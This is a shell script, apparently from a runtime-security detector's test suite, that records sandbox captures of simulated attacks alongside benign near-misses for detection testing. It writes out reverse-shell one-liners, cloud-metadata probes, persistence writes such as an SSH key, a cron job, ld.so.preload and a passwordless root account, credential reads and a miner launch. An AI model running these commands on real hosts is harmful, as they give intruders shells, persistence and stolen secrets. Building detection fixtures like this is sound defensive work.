#!/bin/sh
# Records the captures that are our own again: a real sandbox for each, with everything that runsc can tell.
# Usage, as root on x86-64, from the root of the tree:
#   GYRFALCON=build/release/gyrfalcon sh tests/data/captures/record.sh RUNSC FOLDER [RUNSC FLAG...]
# e.g. record.sh /usr/bin/runsc tests/data/captures/old --platform=ptrace; with ONLY=name just that one.
set -eu
. tests/record_lib.sh

begin_recording "$@"
for applet in cut env grep head ln mv rm sed wc; do ln -sf busybox "$scratch/rootfs/bin/$applet"; done

# record NAME COMMAND: lines of COMMAND become one, for JSON.
record() {
  name=$1 command=$(printf '%s' "$2" | tr '\n' ';')
  [ "${ONLY:-$name}" = "$name" ] || return 0
  "$GYRFALCON" session generate --all --socket "$socket" >"$scratch/session.json"
  start_recorder
  run_sandbox "$RUNSC" "$flags" "$scratch/state" "$scratch/rootfs" "$scratch/session.json" "$command" \
    >"$scratch/sandbox.log" 2>&1 || say "$name: the command returned $?"
  keep "$name"
}

record server-shell "/usr/sbin/nginx -e 'system \"/bin/sh\", \"-c\", \"id; true\"; system \"/bin/true\"'"

# The second one is written through a symbolic link.
record drift "cp /bin/bash /var/tmp/miner; chmod +x /var/tmp/miner; /var/tmp/miner -c 'echo mining'
ln -s /var/tmp /opt; cp /bin/bash /opt/tool; chmod +x /opt/tool; /opt/tool -c 'echo working'; true"

# TCP by IPv4, TCP by an IPv6 socket to the same IPv4 address, then what must not be told: DNS to it, another address.
# shellcheck disable=SC2016 # for perl
record metadata 'nc -w 1 169.254.169.254 80
perl -e '\''
socket A, 10, 1, 0; connect A, pack("S n N a10 n C4 N", 10, 80, 0, "", 0xffff, 169, 254, 169, 254, 0);
socket B, 2, 2, 0; connect B, pack("S n C4 x8", 2, 53, 169, 254, 169, 254);
socket C, 2, 1, 0; connect C, pack("S n C4 x8", 2, 80, 169, 254, 169, 253)'\'

# shellcheck disable=SC2016 # for perl
record persistence 'mkdir -p /root/.ssh /etc/systemd/system /etc/profile.d /srv/app/.git/hooks
echo "ssh-ed25519 AAAA intruder" >>/root/.ssh/authorized_keys
echo "* * * * * root /var/tmp/miner" >/etc/cron.d/update
echo "[Service]" >/etc/systemd/system/update.service
echo "alias sudo=/var/tmp/fake-sudo" >>/root/.bashrc
echo "export PATH=/var/tmp:$PATH" >/etc/profile.d/update.sh
echo /var/tmp/hide.so >/etc/ld.so.preload
echo "toor::0:0::/root:/bin/sh" >>/etc/passwd
echo "#!/bin/sh" >/srv/app/.git/hooks/pre-commit
echo "{}" >/srv/app/.mcp.json
echo "|/var/tmp/miner" >/proc/sys/kernel/core_pattern
perl -e '\''syscall 85, $path = "/usr/bin/by-creat", 0755'\'

record credentials 'mkdir -p /root/.aws /root/.ssh /var/run/secrets/kubernetes.io/serviceaccount
echo key >/root/.aws/credentials
echo key >/root/.ssh/id_ed25519
echo token >/var/run/secrets/kubernetes.io/serviceaccount/token
cat /root/.aws/credentials
head -n 1 /root/.ssh/id_ed25519
cat /var/run/secrets/kubernetes.io/serviceaccount/token
cat /proc/1/environ >/dev/null
cat /root/.kube/config
cat /etc/shadow'

# bash on its own input; nc that starts a shell; a shell that changes its own input for good; F_DUPFD by something
# named sh.
# shellcheck disable=SC2016 # for perl
record reverse-shells 'echo id | nc -l -p 4441 & sleep 0.3; bash -c "bash -i >& /dev/tcp/127.0.0.1/4441 0>&1"
echo id | nc -l -p 4442 & sleep 0.3; nc 127.0.0.1 4442 -e /bin/sh
echo id | nc -l -p 4443 & sleep 0.3; bash -c "exec 5<>/dev/tcp/127.0.0.1/4443; exec 0<&5 1>&5 2>&5; read line; sh -c id"
echo id | nc -l -p 4444 & sleep 0.3; ln -s /usr/bin/perl /tmp/sh; /tmp/sh -e '\''
socket S, 2, 1, 0; connect S, pack("S n C4 x8", 2, 4444, 127, 0, 0, 1);
open STDOUT, ">&S"; close STDIN; fcntl S, 0, 0'\'

# The quotes keep the pool out of the first shell's own arguments.
record miner "/bin/true -o strat''um+tcp://pool.example:3333 -u wallet; ln -s busybox /bin/xmrig; xmrig --version; true"

# Ordinary work, and near misses of every rule.
# shellcheck disable=SC2016 # for perl
record benign 'mkdir -p /srv/app/.git/hooks /root/.ssh /root/.aws /usr/local/bin /run
echo "print 6 * 7" >/srv/app/job.pl; sh -c "cat /srv/app/job.pl | grep print"
echo "#!/bin/sh" >/srv/app/.git/hooks/pre-commit.sample
echo "host key" >/root/.ssh/known_hosts; cat /root/.ssh/known_hosts
echo "[default]" >/root/.aws/config; cat /root/.aws/config
cat /etc/passwd /etc/group; cat /proc/self/environ >/dev/null; cat /proc/1/status >/dev/null
echo data >/usr/local/bin/list; echo log >/var/tmp/cron.log; echo x >/tmp/bashrc; echo y >/etc/cron
/usr/sbin/nginx -e '\''system "/bin/true"'\''
nc -l -p 8080 >/dev/null & sleep 0.3
bash -c "echo ping >/dev/tcp/127.0.0.1/8080"
nc -l -p 8081 >/dev/null </etc/group & sleep 0.3
bash -c "exec 3<>/dev/tcp/127.0.0.1/8081; timeout 1 cat <&3; cat <&3 | head -n 1"
perl -e '\''
socket A, 2, 2, 0; connect A, pack("S n C4 x8", 2, 53, 169, 254, 169, 254);
socket B, 1, 1, 0; connect B, pack("S a*", 1, "/run/app.sock");
$path = "/tmp/by-creat"; syscall 85, $path, 0644; if (!fork) { syscall 101, 0, 0, 0, 0; exit } wait'\''
ls /bin >/dev/null; true'
